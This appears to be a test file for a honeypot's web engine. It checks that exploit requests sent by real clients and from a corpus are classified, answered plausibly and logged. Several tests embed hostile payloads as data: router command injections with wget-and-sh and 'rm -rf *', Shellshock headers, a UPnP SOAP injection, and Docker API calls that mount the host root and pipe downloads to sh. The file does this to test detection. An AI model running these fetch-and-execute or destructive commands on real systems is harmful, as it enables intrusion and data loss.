"""
cases_http.py - the web honeypot engine (issue 6), run by run.py.

Real clients (curl, wget, python3 http.client, openssl s_client, chromium headless when installed)
against protocol = http services and against trap ports, which hand HTTP and TLS over to the same
engine; and the exploit corpus (tests/corpus/http/*.req), each request sent as raw bytes, its class,
CVE and download URLs checked in the events.
"""
import base64
import glob
import hashlib
import json
import http.client
import http.server
import os
import random
import re
import shutil
import socket
import ssl
import subprocess
import tempfile
import threading
import time

from harness import Service, Skip, T, can_connect, connect, free_port, recv_until_eof, send_and_close, wait_for, identity
from cases import check_common, stop_and_read

ALL = []
HERE = os.path.dirname(os.path.abspath(__file__))
CORPUS = os.path.join(HERE, "..", "corpus", "http")


def case(fn):
    ALL.append((fn.__name__, fn))
    return fn


def need(*tools):
    for t in tools:
        if not shutil.which(t):
            raise Skip("%s is not installed" % t)


def web_daemon(ctx, label, **svc_opts):
    """An http service and a trap (hand-over on); downloads off: URLs are logged only."""
    return ctx.daemon(label, [Service("web", protocol="http", **svc_opts),
                              Service("trap", flush_after="300ms")]).start()


def requests_of(evs):
    return [e for e in evs if e["eventid"] == "http.request"]


def _cred_line(e):
    """An http.credentials event as its corpus line: user:password, a control byte or backslash as \\xNN."""
    return "".join(ch if " " <= ch < "\x7f" and ch != "\\" else "\\x%02x" % ord(ch)
                   for ch in "%s:%s" % (e["username"], e["password"]))


def load_corpus():
    """[(name, meta, raw bytes)]: '#! key: value' lines, '#! ---', then the request (LF -> CRLF in the head)."""
    out = []
    for path in sorted(glob.glob(os.path.join(CORPUS, "*.req"))):
        with open(path, "rb") as f:
            data = f.read()
        meta = {"class": [], "cve": [], "url": [], "port": [], "cred": []}
        head, sep, rest = data.partition(b"#! ---\n")
        assert sep, "%s: no '#! ---' line" % path
        for line in head.decode().splitlines():
            if line.startswith("#! ") and ":" in line:
                k, _, v = line[3:].partition(":")
                meta.setdefault(k.strip(), []).append(v.strip())
        h, sep2, body = rest.partition(b"\n\n")
        raw = h.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n") + (b"\r\n\r\n" + body if sep2 else b"\r\n\r\n")
        out.append((os.path.basename(path), meta, raw))
    return out


# ---- plain HTTP -------------------------------------------------------------------------------

@case
def http_real_clients_and_events(ctx):
    """curl, wget and python's http.client (keep-alive, pipelining-free reuse) get plausible answers;
    every request is one http.request with the fields an operator filters on."""
    need("curl", "wget")
    d = web_daemon(ctx, "http-clients")
    port = d.svc("web").port
    r = subprocess.run(["curl", "-sS", "-i", "-A", "probe/1.0", "http://127.0.0.1:%d/?a=%%41+b" % port],
                       capture_output=True, timeout=T(10))
    assert r.returncode == 0, r.stderr
    head = r.stdout.split(b"\r\n\r\n", 1)[0].decode()
    assert head.startswith("HTTP/1.1 200"), head
    assert re.search(r"(?m)^Server: nginx", head), head
    assert re.search(r"(?m)^Date: ", head) and re.search(r"(?m)^Content-Length: \d+", head), head
    r = subprocess.run(["wget", "-q", "-O", "-", "--user-agent=Wget/1.21.3", "http://127.0.0.1:%d/robots.txt" % port],
                       capture_output=True, timeout=T(10))
    # a keep-alive connection carrying three requests
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=T(5))
    for path in ("/a", "/b", "/wp-login.php"):
        conn.request("GET", path, headers={"User-Agent": "pyclient"})
        resp = conn.getresponse()
        resp.read()
        assert resp.status in (200, 404), (path, resp.status)
    conn.close()
    d.wait_event(lambda e: e["eventid"] == "http.request" and e.get("uri") == "/wp-login.php", what="3rd request")
    evs = stop_and_read(d)
    reqs = requests_of(evs)
    first = [e for e in reqs if e["uri"].startswith("/?a=")][0]
    check_common(first)
    assert first["method"] == "GET" and first["version"] == "HTTP/1.1", first
    assert first["uri"] == "/?a=%41+b" and first["uri_decoded"] == "/?a=A b", first
    assert first["user_agent"] == "probe/1.0" and first["host"] == "127.0.0.1:%d" % port, first
    assert first["status"] == 200 and first["protocol"] == "http" and first["tls"] is False, first
    assert any(h["name"].lower() == "accept" for h in first["headers"]), first["headers"]
    assert first["raw"].startswith("GET /?a=%41+b HTTP/1.1\r\n"), first["raw"]
    py = [e for e in reqs if e.get("user_agent") == "pyclient"]
    assert [e["uri"] for e in py] == ["/a", "/b", "/wp-login.php"], py
    assert len(set(e["session"] for e in py)) == 1 and [e["request_no"] for e in py] == [1, 2, 3], py


@case
def http_logins_of_real_clients(ctx):
    """The three ways a web login arrives, each from curl as a brute-forcer's script sends it: a Basic
    header (--user), a posted form (wp-login.php's log/pwd) and a JSON object (Grafana's /login, and
    Zabbix's JSON-RPC user.login with the pair in "params", with --json) and geth's wallet unlock on
    JSON-RPC: one http.credentials each, with its method, the decoded user and password, the URI and
    the default-credential knowledge; a form without a password field and a JSON array give none."""
    need("curl")
    d = web_daemon(ctx, "http-logins")
    base = "http://127.0.0.1:%d" % d.svc("web").port
    for args in (["--user", "admin:p@ss:word", base + "/manager/html"],
                 ["--data", "log=admin&pwd=qwerty%26123&wp-submit=Log+In", base + "/wp-login.php"],
                 ["--json", '{"user":"admin","password":"admin"}', base + "/login"],
                 ["--json", '{"jsonrpc":"2.0","method":"user.login","params":{"username":"Admin","password":"zabbix"},'
                            '"id":1}', base + "/zabbix/api_jsonrpc.php"],
                 ["--json", '{"jsonrpc":"2.0","method":"personal_unlockAccount","params":["0x407d73d8a49eeb85d32cf465507dd71d'
                            '507100c1","qwerty",600],"id":3}', base + "/"],
                 ["--data", "log=admin&wp-submit=Log+In", base + "/wp-login.php?nopass"],
                 ["--json", '[{"user":"root","password":"root"}]', base + "/api/login"]):
        r = subprocess.run(["curl", "-sS", "-o", "/dev/null", "-A", "login-test"] + args,
                           capture_output=True, timeout=T(10))
        assert r.returncode == 0, (args, r.stderr)
    d.wait_event(lambda e: e["eventid"] == "http.request" and e.get("uri") == "/api/login", what="last login")
    evs = stop_and_read(d)
    creds = [(e["method"], e["username"], e["password"], e["uri"]) for e in evs if e["eventid"] == "http.credentials"]
    assert creds == [("basic", "admin", "p@ss:word", "/manager/html"),
                     ("form", "admin", "qwerty&123", "/wp-login.php"),
                     ("json", "admin", "admin", "/login"),
                     ("json", "Admin", "zabbix", "/zabbix/api_jsonrpc.php"),
                     ("wallet", "0x407d73d8a49eeb85d32cf465507dd71d507100c1", "qwerty", "/")], creds
    grafana = [e for e in evs if e["eventid"] == "http.credentials" and e["method"] == "json"][0]
    check_common(grafana)
    assert grafana["protocol"] == "http" and grafana["service"] == "web" and grafana["src_ip"] == "127.0.0.1", grafana
    assert grafana.get("cred_match") and grafana.get("cred_device"), grafana     # admin:admin is a known default


@case
def http_malformed_requests_get_400(ctx):
    """Junk, a bad header line, an absurd version: the status a real server sends, the bytes recorded."""
    d = web_daemon(ctx, "http-bad")
    port = d.svc("web").port
    answers = {}
    for name, data in (("junk", b"\x16\x99hello there\r\n\r\n"),
                       ("noheadercolon", b"GET / HTTP/1.1\r\nHost x\r\n\r\n"),
                       ("version", b"GET / HTTP/9.9\r\nHost: x\r\n\r\n")):
        s = connect(port)
        s.sendall(data)
        answers[name] = recv_until_eof(s)
        s.close()
    for name, reply in answers.items():
        assert re.match(rb"HTTP/1\.1 (400|505) ", reply), (name, reply[:200])
        assert b"Connection: close" in reply, (name, reply[:300])
    # HTTP/0.9 (a request line without a version): the page alone, no status
    # line or headers, as nginx and Apache answer it; then the server closes.
    s = connect(port)
    s.sendall(b"GET /\r\n")
    simple = recv_until_eof(s)
    s.close()
    assert simple.lstrip().lower().startswith(b"<!doctype html>") and b"HTTP/1." not in simple, simple[:200]
    evs = stop_and_read(d)
    bad = [e for e in evs if e["eventid"] == "http.bad_request"]
    assert len(bad) == 3 and all(e["raw"] or e.get("raw_b64") for e in bad), bad
    v09 = [e for e in requests_of(evs) if e["raw"] == "GET /\r\n"]
    assert len(v09) == 1 and v09[0]["status"] == 200 and v09[0]["version"] == "", v09


def _http_response(s, buf=b""):
    """One response read by its Content-Length from socket s; returns (response, bytes after it)."""
    s.settimeout(T(5))
    while b"\r\n\r\n" not in buf:
        b = s.recv(65536)
        assert b, "the connection ended before a response head: %r" % buf[:200]
        buf += b
    head, _, rest = buf.partition(b"\r\n\r\n")
    n = int(re.search(rb"\r\ncontent-length: *(\d+)", head, re.I).group(1))
    while len(rest) < n:
        b = s.recv(65536)
        assert b, "the connection ended inside a body"
        rest += b
    return head + b"\r\n\r\n" + rest[:n], rest[n:]


@case
def http_last_answer_leaves_with_the_fin(ctx):
    """The answer that ends a connection (Connection: close, the end of keep-alive, a 400) leaves in
    the segment that carries the FIN, one packet fewer per connection, and arrives whole; a
    keep-alive answer is not held back.  A client that sent more than the sensor read still gets
    its answer: the kernel resets such a connection at close(), which would drop held bytes, so
    the sensor shuts the sending side down first (the FIN may then come alone: the client's
    segments arriving meanwhile push held bytes out).  Nor is a request acknowledged on its own: the
    ACK rides on the answer (quick-ACK mode off on the listener).  Checked on the wire with tshark."""
    need("tshark")
    if os.geteuid() != 0:
        raise Skip("capturing on lo needs root")
    from cases_fp import LoCapture
    d = web_daemon(ctx, "http-fin")
    port = d.svc("web").port
    tmp = tempfile.mkdtemp(prefix="hanipo-fin-")
    ctx.defer(lambda: shutil.rmtree(tmp, ignore_errors=True))
    pcap = os.path.join(tmp, "fin.pcapng")
    cap = LoCapture(pcap, port)
    clients = {}
    try:
        s = connect(port)                                    # Connection: close
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        resp, rest = _http_response(s)
        clients[s.getsockname()[1]] = ("close", [resp])
        assert resp.startswith(b"HTTP/1.1 200 ") and recv_until_eof(s) == b"" and not rest, resp[:200]
        s.close()
        s = connect(port)                                    # keep-alive, then close on the second
        s.sendall(b"GET /a HTTP/1.1\r\nHost: x\r\n\r\n")
        first, rest = _http_response(s)
        assert not rest
        s.sendall(b"GET /b HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        second, rest = _http_response(s)
        assert recv_until_eof(s) == b"" and not rest
        clients[s.getsockname()[1]] = ("keepalive", [first, second])
        s.close()
        s = connect(port)                                    # refused by the parser
        s.sendall(b"GET / HTTP/1.1\r\nHost x\r\n\r\n")
        bad = recv_until_eof(s)
        assert bad.startswith(b"HTTP/1.1 400 "), bad[:200]
        clients[s.getsockname()[1]] = ("bad", [bad])
        s.close()
        s = connect(port)                                    # more than one read, never read
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n" + b"x" * 200000)
        resp, rest = _http_response(s)
        assert resp.startswith(b"HTTP/1.1 200 ") and not rest, resp[:200]
        clients[s.getsockname()[1]] = ("unread", [resp])
        s.close()
    finally:
        cap.stop()
    p = subprocess.run(["tshark", "-r", pcap, "-Y", "tcp.srcport == %d" % port, "-T", "fields",
                        "-e", "tcp.dstport", "-e", "tcp.len", "-e", "tcp.flags.fin", "-e", "tcp.flags.reset"],
                       capture_output=True, text=True, timeout=T(60))
    segs = {}
    for line in p.stdout.splitlines():
        f = line.split("\t")
        segs.setdefault(int(f[0]), []).append((int(f[1]), f[2] in ("1", "True"), f[3] in ("1", "True")))
    for cport, (what, answers) in clients.items():
        got = segs.get(cport, [])
        resets = [g for g in got if g[2]]
        if what == "unread":             # the reset follows the answer and its FIN
            assert resets and got.index(resets[0]) > max(i for i, g in enumerate(got) if g[0] > 0), got
            got = got[:got.index(resets[0])]
        else:
            assert not resets, "%s: the sensor reset the connection: %r" % (what, got)
        data = [g for g in got if g[0] > 0]
        fins = [g for g in got if g[1]]
        assert sum(g[0] for g in data) == sum(len(a) for a in answers), (what, got, [len(a) for a in answers])
        if what == "unread":
            # The client's own segments keep arriving while the answer is held, and the kernel
            # pushes held bytes when it handles them (MSG_MORE holds only until the next push):
            # the FIN may then follow alone.  What counts is that the whole answer precedes it.
            assert len(fins) == 1 and got.index(fins[0]) >= got.index(data[-1]), (what, got)
        else:
            assert len(fins) == 1 and fins[0][0] > 0, "%s: the FIN came alone, not with the answer: %r" % (what, got)
            assert data[-1] is fins[0], "%s: data after the FIN? %r" % (what, got)
        if what == "keepalive":
            assert len(data) == 2 and not data[0][1] and data[0][0] == len(answers[0]), got
    # No bare ACK of a request before its answer.  A delayed ACK (the 40 ms timer, if the sensor
    # were that slow) is allowed; Linux's quick ACK leaves within microseconds of the request.
    p = subprocess.run(["tshark", "-r", pcap, "-T", "fields", "-e", "frame.time_relative",
                        "-e", "tcp.srcport", "-e", "tcp.dstport", "-e", "tcp.len", "-e", "tcp.flags.syn"],
                       capture_output=True, text=True, timeout=T(60))
    rows = [line.split("\t") for line in p.stdout.splitlines()]
    rows = [(float(r[0]), int(r[1]), int(r[2]), int(r[3]), r[4] in ("1", "True")) for r in rows]
    for cport, (what, _) in clients.items():
        if what not in ("close", "bad"):
            continue
        req = [r for r in rows if r[1] == cport and r[3] > 0]
        ans = [r for r in rows if r[1] == port and r[2] == cport and r[3] > 0]
        assert req and ans, (what, rows)
        bare = [r for r in rows if r[1] == port and r[2] == cport and r[3] == 0 and not r[4]
                and req[0][0] <= r[0] <= ans[0][0] and r[0] - req[0][0] < 0.030]
        assert not bare, "%s: the request was acknowledged on its own before the answer: %r" % (what, bare)
    evs = stop_and_read(d)
    assert len(requests_of(evs)) == 4, [e["uri"] for e in requests_of(evs)]


@case
def http_refused_requests_classified(ctx):
    """A request nginx refuses is still an attack to record: exploits for embedded servers that take
    any request line put shell commands with raw blanks in the URL.  They get nginx's 400, and their
    http.bad_request carries the loosely split method and target, the classification and the
    commands, whose URLs reach the capture pipeline; on the web port and through the trap."""
    d = web_daemon(ctx, "http-refused")
    dsl = (b"GET /login.cgi?cli=aa aa';wget http://192.0.2.31/x -O -> /tmp/r;sh /tmp/r'$ HTTP/1.1\r\n"
           b"Host: 198.51.100.7\r\nUser-Agent: Hello, world\r\n\r\n")
    jaws = b"GET /shell?cd /tmp;rm -rf *;wget http://192.0.2.32/jaws;sh /tmp/jaws HTTP/1.0\r\n\r\n"
    junk = b"\x16\x00\x01 not a request\r\n\r\n"
    replies = [send_and_close(d.svc("web").port, dsl)[1], send_and_close(d.svc("trap").port, jaws)[1],
               send_and_close(d.svc("web").port, junk)[1]]
    for r in replies:
        assert r.startswith(b"HTTP/1.1 400 Bad Request\r\n") and b"<center>nginx" in r, r[:300]
    evs = stop_and_read(d)
    bad = {e["raw"][:12]: e for e in evs if e["eventid"] == "http.bad_request"}
    assert len(bad) == 3, [e["raw"] for e in bad.values()]
    e = bad[dsl.decode()[:12]]
    assert e["method"] == "GET" and e["uri"] == "/login.cgi?cli=aa aa';wget http://192.0.2.31/x -O -> /tmp/r;sh /tmp/r'$", e
    assert "command-injection" in e["attack_classes"] and e["cves"] == ["CVE-2016-20017"], e
    assert ["wget", "http://192.0.2.31/x", "-O", "-"] in e["injected"], e
    e = bad[jaws.decode()[:12]]
    assert e["service"] == "trap" and e["uri"] == "/shell?cd /tmp;rm -rf *;wget http://192.0.2.32/jaws;sh /tmp/jaws", e
    assert "CVE-2016-20016" in e["cves"] and "rce" in e["attack_classes"], e
    e = [x for x in bad.values() if x["raw"].startswith("\x16")][0]
    assert "method" not in e and "attack_classes" not in e, e     # nothing to split
    urls = {x["url"] for x in evs if x["eventid"].startswith("session.file_download")}
    assert {"http://192.0.2.31/x", "http://192.0.2.32/jaws"} <= urls, urls


@case
def http_urls_only_where_pointed_at(ctx):
    """The capture pipeline gets the URLs a request points at (a parameter's value, a body, an injected
    command, a download tool anywhere), not the client's own URLs in its head (Referer, Origin, a
    crawler's User-Agent, a proxy probe's absolute target), nor the namespace, encoding and algorithm
    URIs every SOAP and SAML body carries, nor a URL's URL-encoded shell tail ("x%3Bsh")."""
    d = web_daemon(ctx, "http-urls")
    web, trap = d.svc("web").port, d.svc("trap").port
    soap = (b'<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
            b's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:AddPortMapping '
            b'xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewInternalClient>`cd /tmp;wget '
            b'http://192.0.2.41/w.sh`</NewInternalClient></u:AddPortMapping><ds:Transform '
            b'Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></s:Body></s:Envelope>')
    reqs = [
        (web, b"GET http://192.0.2.40/judge.php HTTP/1.1\r\nHost: 192.0.2.40\r\n\r\n"),
        (trap, b"GET /robots.txt HTTP/1.1\r\nHost: x\r\nReferer: http://192.0.2.42/spam\r\n"
               b"Origin: https://192.0.2.43\r\nUser-Agent: Mozilla/5.0 (compatible; bingbot/2.0; "
               b"+http://192.0.2.44/bingbot.htm)\r\n\r\n"),
        (web, b"GET /cgi-bin/status HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :; }; /bin/bash -c "
              b"\"wget http://192.0.2.45/s.sh -O /tmp/s\"\r\nReferer: http://192.0.2.45/s.sh\r\n\r\n"),
        (web, b"GET /index.php?page=http://192.0.2.46/r.txt? HTTP/1.1\r\nHost: x\r\n\r\n"),
        (trap, b"POST /ctl HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\nContent-Length: %d\r\n\r\n"
               % len(soap) + soap),
        (web, b"GET /diag.cgi?ping=;wget%20http://192.0.2.47/m%3Bsh HTTP/1.1\r\nHost: x\r\n\r\n"),
    ]
    for port, raw in reqs:
        send_and_close(port, raw)
    # a head cut short (no empty line): recorded as http.incomplete, its raw bytes split the same
    # way; the empty lines before its request line (skipped, as nginx does) do not end its head
    send_and_close(web, b"\r\n\r\nGET /cut HTTP/1.1\r\nHost: x\r\nReferer: http://192.0.2.49/ref\r\n"
                        b"User-Agent: () { :; }; /bin/sh -c 'wget http://192.0.2.48/inc.sh'")
    wait_for(lambda: sum(e["eventid"] == "http.request" for e in d.events()) >= len(reqs) and
             any(e["eventid"] == "http.incomplete" for e in d.events()), T(10), what="every request")
    time.sleep(0.5)
    evs = stop_and_read(d)
    got = sorted(e["url"] for e in evs if e["eventid"].startswith("session.file_download"))
    assert got == ["http://192.0.2.41/w.sh", "http://192.0.2.45/s.sh", "http://192.0.2.46/r.txt",
                   "http://192.0.2.47/m", "http://192.0.2.48/inc.sh"], got
    tools = {e["url"]: e["tool"] for e in evs if e["eventid"].startswith("session.file_download")}
    assert tools["http://192.0.2.45/s.sh"] == "wget" and tools["http://192.0.2.46/r.txt"] == "url", tools
    # the head's URLs are still on record, in the request's event
    probe = [e for e in requests_of(evs) if e["uri"] == "http://192.0.2.40/judge.php"]
    assert probe and "open-proxy-absolute" in probe[0]["class_rules"], probe


@case
def http_on_trap_ports_and_chunked_pipelined(ctx):
    """The trap hands HTTP over on any port; chunked bodies and pipelined requests are parsed."""
    d = web_daemon(ctx, "http-trap")
    port = d.svc("trap").port
    s = connect(port)
    s.sendall(b"POST /a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
              b"4\r\nWiki\r\n5;ext=1\r\npedia\r\n0\r\n\r\n"
              b"GET /b HTTP/1.1\r\nHost: x\r\n\r\nGET /c HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    reply = recv_until_eof(s)
    s.close()
    assert reply.count(b"HTTP/1.1 ") == 3, reply[:500]
    evs = stop_and_read(d)
    reqs = requests_of(evs)
    assert [e["uri"] for e in reqs] == ["/a", "/b", "/c"], reqs
    assert reqs[0]["body_preview"] == "Wikipedia" and reqs[0]["body_size"] == 9, reqs[0]
    assert reqs[0]["body_sha256"] == hashlib.sha256(b"Wikipedia").hexdigest()
    assert all(e["protocol"] == "http" and e["service"] == "trap" for e in reqs), reqs
    assert not [e for e in evs if e["eventid"] == "trap.payload"], "the trap also recorded the bytes"


@case
def http_exploit_corpus(ctx):
    """Every exploit of tests/corpus/http, sent raw to a trap port: its class, CVEs and download URLs
    (all of them, and no other).
    Each is sent twice, on two connections one after the other: the second gets the verdict the
    engine kept for the first (http_memo.h, counted in sensor.stop's http_verdicts_reused), which
    must be the same, and its session must log the URLs again.  An exploit the parser refuses, as
    nginx does (F5's doubled Transfer-Encoding), is judged on its http.bad_request."""
    corpus = load_corpus()
    assert len(corpus) >= 30, "corpus has %d requests" % len(corpus)
    d = web_daemon(ctx, "http-corpus")
    port = d.svc("trap").port
    for _, _, raw in corpus:
        send_and_close(port, raw)
        send_and_close(port, raw)
    want_urls = [u for _, m, _ in corpus for u in m["url"]]
    judged = ("http.request", "http.bad_request")
    wait_for(lambda: sum(e["eventid"] in judged for e in d.events()) >= 2 * len(corpus), T(20),
             what="every corpus request")
    time.sleep(0.5)
    evs = stop_and_read(d)
    reqs = [e for e in evs if e["eventid"] in judged]
    refused = 0
    problems = []
    url_sessions = {}
    for e in evs:
        if e["eventid"].startswith("session.file_download"):
            url_sessions.setdefault(e["url"], set()).add(e["session"])
    verdict = ("attack_classes", "cves", "owasp_iot", "class_rules", "commands", "injected", "rule", "status")
    for name, meta, raw in corpus:
        text = raw.decode("utf-8", "replace")
        got = [e for e in reqs if e.get("raw") == text or e.get("raw", "").startswith(text[:200])]
        if len(got) != 2:
            problems.append("%s: %d http.request events, not 2" % (name, len(got)))
            continue
        e = got[0]
        if e["eventid"] == "http.bad_request":
            refused += len(raw) <= 1500
        for c in meta["class"]:
            if c not in e["attack_classes"]:
                problems.append("%s: class %s not in %r" % (name, c, e["attack_classes"]))
        for cve in meta["cve"]:
            if cve not in e["cves"]:
                problems.append("%s: %s not in %r" % (name, cve, e["cves"]))
        for cve in e["cves"]:           # and no CVE the file does not name: a wrong CVE misleads
            if cve not in meta["cve"]:
                problems.append("%s: unexpected %s" % (name, cve))
        # the exploit gets an answer that lets it go on, not nginx's 400 for a missing Host; where
        # no rule speaks for a vulnerable product, a target nginx refuses (CONNECT host:port, a path
        # climbing above the root) or a Host it refuses (SQL in it) gets nginx's own 400
        if e["eventid"] == "http.request" and e["status"] == 400 and not (
                e.get("rule") in NGINX_SITE_RULES and (_nginx_refuses_target(text) or _nginx_refuses_host(text))):
            problems.append("%s: answered 400 (rule %s)" % (name, e.get("rule")))
        # and no URL it does not point at: a Referer, an XML namespace, a URL's encoded shell tail
        sessions = {x["session"] for x in got}
        for u, ss in url_sessions.items():
            if ss & sessions and u not in meta["url"]:
                problems.append("%s: requested %s, which its file does not list" % (name, u))
        # the login a form or Basic header carries (#! cred: user:password), each time, and no other
        creds = sorted(_cred_line(x) for x in evs if x["eventid"] == "http.credentials" and x["session"] in sessions)
        if creds != sorted(meta["cred"] * 2):
            problems.append("%s: credentials %r, want %r twice" % (name, creds, meta["cred"]))
        for k in verdict:
            if e.get(k) != got[1].get(k):
                problems.append("%s: %s %r the first time, %r the second" % (name, k, e.get(k), got[1].get(k)))
    # every repeat of a request whose key fits (raw bytes and view, 4 KiB) reused the kept verdict
    reused = [e["http_verdicts_reused"] for e in evs if e["eventid"] == "sensor.stop"]
    small = sum(1 for _, _, raw in corpus if len(raw) <= 1500) - refused    # refused: never memoised
    assert reused and small <= reused[0] <= len(corpus), (reused, small, len(corpus))
    # injected commands, as the emulated shell's parser splits them (never run)
    hg = [e for e in reqs if "CVE-2017-17215" in e["cves"]]
    assert hg and ["/bin/busybox", "wget", "-g"] == hg[0]["injected"][0][:3], hg[:1]
    for u in want_urls:
        if len(url_sessions.get(u, ())) < 2:
            problems.append("url %s logged in %d sessions, not in both (have %d URLs)"
                            % (u, len(url_sessions.get(u, ())), len(url_sessions)))
    assert not problems, "\n".join(problems)


@case
def http_docker_api_real_client(ctx):
    """Debian's Docker SDK for Python (python3-docker) against a trap on 2375: it pings, reads
    version and info (the SSH shell's host and kernel), pulls, creates a container with the host's
    root mounted, starts it and runs an exec, as Kinsing and TeamTNT do.  Every step answers as a
    Debian 12 docker.io daemon; http.request events classify the create and exec as rce with their
    commands, and the download URLs in them are logged.  Nothing runs."""
    try:
        import docker
    except ImportError:
        raise Skip("python3-docker not installed")
    ip = "127.%d.%d.%d" % (random.randint(1, 250), random.randint(1, 250), random.randint(2, 250))
    d = ctx.daemon("docker", [Service("trap", bind=ip, tcp_ports=[2375], flush_after="300ms")]).start()
    api = docker.APIClient(base_url="tcp://%s:2375" % ip, version="auto", timeout=T(10))
    assert api.ping() is True
    ver, info = api.version(), api.info()
    assert ver["ApiVersion"] == "1.41" and ver["Version"] == "20.10.24+dfsg1", ver
    assert re.match(r"^6\.1\.0-\d+-amd64$", ver["KernelVersion"]) and info["KernelVersion"] == ver["KernelVersion"], (ver, info)
    assert info["Name"] == identity(d, "hostname") and info["OperatingSystem"] == "Debian GNU/Linux 12 (bookworm)", info
    assert info["NCPU"] >= 1 and info["MemTotal"] > 1 << 28, info
    assert api.containers(all=True) == [] and api.images() == []
    api.pull("alpine", tag="latest")
    url1, url2 = "http://192.0.2.72/x.sh", "http://192.0.2.73/k"
    c = api.create_container("alpine", command=["/bin/sh", "-c", "wget %s -O- | sh" % url1],
                             host_config=api.create_host_config(binds=["/:/mnt"], privileged=True))
    assert re.match(r"^[0-9a-f]{64}$", c["Id"]), c
    api.start(c)
    assert api.inspect_container(c["Id"])["State"]["Running"] is True
    e = api.exec_create(c["Id"], ["sh", "-c", "curl -o /tmp/k %s; sh /tmp/k" % url2])
    assert re.match(r"^[0-9a-f]{64}$", e["Id"]), e
    api.exec_start(e["Id"], detach=True)
    api.close()
    # the bytes on the wire: Docker's headers, not nginx's
    s = connect(2375, host=ip)
    s.sendall(b"GET /_ping HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    raw = recv_until_eof(s)
    s.close()
    assert raw.startswith(b"HTTP/1.1 200 OK\r\n") and raw.endswith(b"\r\n\r\nOK"), raw
    assert b"\r\nServer: Docker/20.10.24+dfsg1 (linux)\r\n" in raw and b"\r\nApi-Version: 1.41\r\n" in raw, raw
    assert b"nginx" not in raw, raw
    wait_for(lambda: len(requests_of(d.events())) >= 12, T(20), what="the client's requests")
    time.sleep(0.5)
    evs = stop_and_read(d)
    reqs = requests_of(evs)
    rules = [(r["method"], r["uri"].split("?")[0], r["rule"], r["status"]) for r in reqs]
    for want in [("GET", "/_ping", "docker-ping", 200), ("POST", "/v1.41/containers/create", "docker-container-create", 201),
                 ("POST", "/v1.41/containers/%s/start" % c["Id"], "docker-no-content", 204),
                 ("POST", "/v1.41/exec/%s/start" % e["Id"], "docker-stream", 200)]:
        assert want in rules, (want, rules)
    create = [r for r in reqs if r["uri"].startswith("/v1.41/containers/create")][0]
    assert "rce" in create["attack_classes"] and "docker-api-host-mount" in create["class_rules"], create
    assert ["wget", url1, "-O-"] in create["injected"], create["injected"]
    ex = [r for r in reqs if r["uri"].endswith("/exec") and r["method"] == "POST"][0]
    assert ["curl", "-o", "/tmp/k", url2] in ex["injected"], ex["injected"]
    logged = {x["url"] for x in evs if x["eventid"].startswith("session.file_download")}
    assert url1 in logged and url2 in logged, logged
    ctx.note("docker SDK %s: %d requests, kernel %s" % (docker.__version__, len(reqs), ver["KernelVersion"]))


@case
def http_personas_answer_in_their_servers_form(ctx):
    """The trap's per-port personalities answer in their own server's form, refusals included
    (src/proto/http_style.c).  Python's http.server runs beside the sensor on the same port of
    another loopback address, and every probe - a listing, a missing file, HEAD, POST, nmap's
    RTSP probe (a bad version), HTTP/2.0, a four-word request line, an HTTP/0.9 POST - must get
    the same bytes from both, Date aside.  A request refused on the Go, Elasticsearch, WebLogic and
    embedded ports gets that server's refusal, never nginx's page (Go's also for HTTP/1.1 without
    Host); and nmap -sV names WebLogic,
    Python and Jetty on their ports, where it named nginx before."""
    need("nmap")
    ip = "127.%d.%d.%d" % (random.randint(1, 250), random.randint(1, 250), random.randint(2, 250))
    ports = [2375, 7001, 8000, 8088, 8545, 9200, 60001]
    d = ctx.daemon("personas", [Service("trap", bind=ip, tcp_ports=ports, flush_after="300ms")]).start()
    ref_ip = "127.%d.%d.%d" % (random.randint(1, 250), random.randint(1, 250), random.randint(2, 250))
    www = tempfile.mkdtemp(prefix="hanipo-pyhttp-")
    ref = subprocess.Popen(["/usr/bin/python3", "-m", "http.server", "8000", "--bind", ref_ip, "--directory", www],
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        wait_for(lambda: can_connect(8000, host=ref_ip), T(10), what="python3 -m http.server")

        def ask(host, port, req):
            s = connect(port, host=host)
            s.sendall(req)
            raw = recv_until_eof(s, timeout=T(5))
            s.close()
            return re.sub(rb"\r\nDate: [^\r]*\r\n", b"\r\nDate: X\r\n", raw)

        probes = [b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"GET /nope HTTP/1.0\r\n\r\n", b"HEAD /nope HTTP/1.0\r\n\r\n",
                  b"POST / HTTP/1.0\r\nContent-Length: 3\r\n\r\nabc", b"OPTIONS / RTSP/1.0\r\n\r\n",
                  b"GET / HTTP/2.0\r\n\r\n", b"GET /a b HTTP/1.0\r\n\r\n", b"POST /\r\n\r\n",
                  b"PUT /x HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n"]
        for req in probes:
            want, got = ask(ref_ip, 8000, req), ask(ip, 8000, req)
            assert want and got == want, "%r:\npython: %r\nhanipo: %r" % (req, want, got)
    finally:
        ref.terminate()
        ref.wait()
        shutil.rmtree(www, ignore_errors=True)
    rtsp = b"OPTIONS / RTSP/1.0\r\n\r\n"
    go = b"HTTP/1.1 400 Bad Request\r\nContent-Type: text/plain; charset=utf-8\r\nConnection: close\r\n\r\n400 Bad Request"
    for port in (2375, 8545):
        raw = ask(ip, port, rtsp)
        assert raw == go, (port, raw)
    # Go refuses HTTP/1.1 without Host (nmap's docker probe), as the Docker daemon does; with Host it serves
    nohost = b"HTTP/1.1 400 Bad Request: missing required Host header\r\nContent-Type: text/plain; charset=utf-8\r\n" \
             b"Connection: close\r\n\r\n400 Bad Request: missing required Host header"
    assert ask(ip, 2375, b"GET /version HTTP/1.1\r\n\r\n") == nohost
